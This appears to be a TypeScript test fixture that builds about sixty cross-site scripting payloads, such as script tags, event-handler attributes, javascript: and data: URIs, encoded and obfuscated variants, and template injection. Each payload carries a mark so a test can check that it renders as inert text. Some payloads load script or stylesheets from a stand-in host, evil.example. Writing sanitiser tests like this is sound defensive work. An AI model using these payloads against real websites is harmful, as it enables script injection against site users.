/** Sets a global and opens a dialog if a page runs it. */
const script = 'window.pwned=1,alert(1)'

/** Known injection vectors. Each contains a mark, by which the test finds it as text. */
const templates: readonly ((mark: string) => string)[] = [
  (n) => `<script>${script}</script>${n}`,
  (n) => `"><script>${script}</script>${n}`,
  (n) => `</script><script>${script}</script>${n}`,
  (n) => `</title><script>${script}</script>${n}`,
  (n) => `</textarea><script>${script}</script>${n}`,
  (n) => `</style><script>${script}</script>${n}`,
  (n) => `--><script>${script}</script>${n}`,
  (n) => `]]><script>${script}</script>${n}`,
  (n) => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>${n}`,
  (n) => `<ScRiPt>${script}</sCrIpT>${n}`,
  (n) => `<scr<script>ipt>${script}</scr</script>ipt>${n}`,
  (n) => `<img src=x onerror="${script}">${n}`,
  (n) => `<img src=x onerror=${script}//${n}`,
  (n) => `"><img src=x onerror="${script}">${n}`,
  (n) => `'><img src=x onerror='${script}'>${n}`,
  (n) => `<img/src="x"/onerror="${script}">${n}`,
  (n) => `<img src=x:x onerror\n=\n"${script}">${n}`,
  (n) => `<svg onload="${script}">${n}`,
  (n) => `<svg/onload=${script}>${n}`,
  (n) => `<svg><script>${script}</script></svg>${n}`,
  (n) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>${n}`,
  (n) => `<svg><a xlink:href="javascript:${script}"><text y=20>${n}</text></a></svg>`,
  (n) => `<math><mi xlink:href="javascript:${script}">${n}</mi></math>`,
  (n) => `<iframe src="javascript:${script}"></iframe>${n}`,
  (n) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>${n}`,
  (n) => `<object data="javascript:${script}"></object>${n}`,
  (n) => `<embed src="javascript:${script}">${n}`,
  (n) => `<base href="https://evil.example/">${n}`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${script}">${n}`,
  (n) => `<link rel=stylesheet href=//evil.example/x.css>${n}`,
  (n) => `<style>@import '//evil.example/x.css';</style>${n}`,
  (n) => `<body onload="${script}">${n}`,
  (n) => `<input autofocus onfocus="${script}">${n}`,
  (n) => `<select autofocus onfocus="${script}">${n}`,
  (n) => `<textarea autofocus onfocus="${script}">${n}`,
  (n) => `<details open ontoggle="${script}">${n}`,
  (n) => `<video><source onerror="${script}">${n}`,
  (n) => `<audio src=x onerror="${script}">${n}`,
  (n) => `<marquee onstart="${script}">${n}</marquee>`,
  (n) => `<div style="animation:x" onanimationstart="${script}">${n}</div>`,
  (n) => `<form action="javascript:${script}"><button>${n}</button></form>`,
  (n) => `<button formaction="javascript:${script}">${n}</button>`,
  (n) => `<a href="javascript:${script}">${n}</a>`,
  (n) => `<a href="data:text/html,<script>${script}</script>">${n}</a>`,
  (n) => `" autofocus onfocus="${script}" x="${n}`,
  (n) => `' onmouseover='${script}' x='${n}`,
  (n) => `\` onclick=\`${script}\` ${n}`,
  (n) => `javascript:${script}//${n}`,
  (n) => `JaVaScRiPt:${script}//${n}`,
  (n) => `java\tscript:${script}//${n}`,
  (n) => `\u0001javascript:${script}//${n}`,
  (n) => `data:text/html,<script>${script}</script>${n}`,
  (n) => `vbscript:${script}//${n}`,
  (n) => `//evil.example/${n}`,
  (n) => `\${${script}}${n}`,
  (n) => `{{constructor.constructor('${script}')()}}${n}`,
  (n) => `&lt;script&gt;${script}&lt;/script&gt;${n}`,
  (n) => `&#60;img src=x onerror=${script}&#62;${n}`,
  (n) => `%3Cscript%3E${script}%3C/script%3E${n}`,
  (n) => `\u003cimg src=x onerror=${script}\u003e\u202e${n}`,
]

export interface Payload {
  text: string
  address: string
  mark: string
}

export function payloads(count: number): Payload[] {
  const step = templates.length / count
  return Array.from({ length: count }, (_, index) => {
    const number = Math.floor(index * step)
    const mark = `x${number + 100}x`
    const schemes = [
      'javascript:',
      'JAVASCRIPT:',
      'java\nscript:',
      ' javascript:',
      'data:text/html,',
    ]
    return {
      text: templates[number]?.(mark) ?? '',
      address: `${schemes[number % schemes.length]}${script}//${mark}`,
      mark,
    }
  })
}
